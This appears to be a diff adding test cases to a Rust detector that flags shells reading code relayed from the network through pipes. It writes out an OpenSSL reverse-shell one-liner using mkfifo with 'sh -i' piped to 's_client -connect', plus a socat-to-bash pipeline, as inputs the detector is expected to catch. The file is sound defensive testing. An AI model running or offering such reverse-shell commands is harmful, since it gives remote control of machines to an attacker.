@@ -439,6 +439,48 @@ fn shells_reading_downloaded_or_decoded_code_from_a_pipe() {
             Some((RELAY, 11)),
         ),
         (
+            "mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect host:port > f",
+            &[
+                x(11, "/usr/bin/dash", &["sh", "-i"], Some(35), Some(36)),
+                x(
+                    10,
+                    "/usr/bin/openssl",
+                    &["openssl", "s_client", "-quiet", "-connect", "10.0.0.1:443"],
+                    Some(36),
+                    Some(35),
+                ),
+            ],
+            Some((RELAY, 11)),
+        ),
+        (
+            "openssl s_server | sh (a TLS server: not the client a relay entry names)",
+            &[
+                x(
+                    10,
+                    "/usr/bin/openssl",
+                    &["openssl", "s_server", "-quiet", "-accept", "4433"],
+                    None,
+                    Some(37),
+                ),
+                x(11, "/usr/bin/dash", &["sh"], Some(37), None),
+            ],
+            None,
+        ),
+        (
+            "echo | openssl s_client -connect host:443 (a shell pipeline into openssl)",
+            &[
+                x(11, "/usr/bin/dash", &["sh", "-c", "echo"], None, Some(38)),
+                x(
+                    10,
+                    "/usr/bin/openssl",
+                    &["openssl", "s_client", "-connect", "10.0.0.1:443"],
+                    Some(38),
+                    None,
+                ),
+            ],
+            None,
+        ),
+        (
             "socat - TCP:host:port | cat | bash",
             &[
                 x(
